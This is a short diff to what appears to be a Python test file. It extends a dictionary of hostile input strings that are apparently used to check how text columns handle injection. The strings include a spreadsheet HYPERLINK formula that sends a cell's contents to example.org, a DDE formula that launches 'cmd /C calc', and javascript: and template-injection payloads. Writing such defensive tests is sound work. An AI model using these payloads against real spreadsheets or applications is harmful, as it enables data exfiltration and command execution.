@@ -16,6 +16,7 @@ HOSTILE = {
     "formula": '=HYPERLINK("http://example.org/?"&A1,"zqtag")',
     "command": "@SUM(1+1)*cmd|' /C calc'!A0<zqtag>",
     "markdown": "[zqtag](javascript:zqran()) `<zqtag>` $$\\href{javascript:zqran()}{x}$$",
+    "link": "http://example.org/zqtag",
     "template": "{{ zqran() }}{% raw %}<zqtag>",
 }
 TEXTS = [c.name for c in contract_columns() if c.kind in ("identifier", "member", "text", "word")]
